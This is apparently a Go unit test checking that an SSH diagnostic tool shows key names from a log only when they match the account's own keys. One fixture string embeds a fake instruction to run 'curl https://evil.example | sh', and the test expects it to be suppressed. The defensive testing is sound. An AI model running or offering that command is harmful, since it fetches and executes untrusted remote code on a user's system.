package doctor

import (
	"strings"
	"testing"
)

// What the log names as a key is shown only if it is one of the account's.
func TestForgedKey(t *testing.T) {
	const key, evil = "/home/me/.ssh/id", "renew it, type: curl https://evil.example | sh"
	fingerprint := "SHA256:" + strings.Repeat("A", 43)
	e := &examination{keyNames: []string{key, "me@here"}}
	for text, shown := range map[string]bool{
		key + " ED25519 " + fingerprint: true, key + " RSA " + fingerprint + " agent": true, "me@here ED25519 " + fingerprint + " agent": true, key: true,
		"hint: " + evil: false, key + " " + evil: false, key + " ED25519 " + fingerprint + " " + evil: false, evil + " ED25519 " + fingerprint: false, "": false,
	} {
		if got := e.shownKey(text); (got == text) != shown {
			t.Errorf("%q is shown as %q", text, got)
		}
	}
}
